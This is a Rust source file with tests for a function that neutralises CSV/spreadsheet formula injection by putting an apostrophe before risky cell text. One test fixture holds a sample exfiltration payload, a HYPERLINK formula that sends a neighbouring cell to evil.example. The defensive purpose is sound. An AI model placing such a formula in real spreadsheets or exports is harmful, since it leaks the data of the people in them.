//! Guard against CSV injection: texts that a spreadsheet would run as formulas are made harmless. A customer's name or
//! a comment is typed by somebody else, and a cell that begins with `=` is a formula to Excel, `LibreOffice` and
//! Sheets: it may send what stands beside it elsewhere.

use std::borrow::Cow;

/// What makes a cell a formula where it comes first: the signs themselves, and the full-width forms that some programs
/// take for them.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// White space that is itself enough: some programs take it off, or end the cell there.
const BREAKS: [char; 3] = ['\t', '\r', '\n'];

/// The text with an apostrophe before it where it would be a formula. One that is of the text's own and stands before
/// such a sign is doubled, so that taking off one apostrophe wherever a sign follows gives every text back.
pub fn harmless(text: &str) -> Cow<'_, str> {
    let bare = text.trim_start_matches('\'');
    if bare.starts_with(BREAKS) || text.trim_start_matches(is_passed_over).starts_with(SIGNS) {
        Cow::Owned(["'", text].concat())
    } else {
        Cow::Borrowed(text)
    }
}

/// What a program may take off before it looks at what comes first: white space, characters that are not seen, and
/// quotation marks.
fn is_passed_over(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(
            character,
            '\'' | '"' | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, cell: &str) {
        assert_eq!(harmless(text), cell);
    }

    #[test]
    fn a_formula_gets_an_apostrophe() {
        check(
            "=HYPERLINK(\"https://evil.example/?\"&A1)",
            "'=HYPERLINK(\"https://evil.example/?\"&A1)",
        );
        for start in "=+-@＝＋－＠\t\r\n".chars() {
            check(&format!("{start}1+1"), &format!("'{start}1+1"));
        }
    }

    #[test]
    fn what_is_taken_off_before_a_sign_hides_none() {
        for before in [" ", "\u{a0}", "\u{0}", "\u{feff}", "\u{200b}", "\"", "' \"\u{3000}"] {
            check(&format!("{before}=1"), &format!("'{before}=1"));
        }
    }

    #[test]
    fn any_other_text_stays_as_it_is() {
        for text in
            ["", "Åse", "1=1", "a+b", "'t Hooft", "'", "kari@callcenter.no", " a =1", "\"x\""]
        {
            check(text, text);
        }
    }

    #[test]
    fn an_apostrophe_of_its_own_can_be_told() {
        check("'=1", "''=1");
        check("''=1", "'''=1");
    }
}
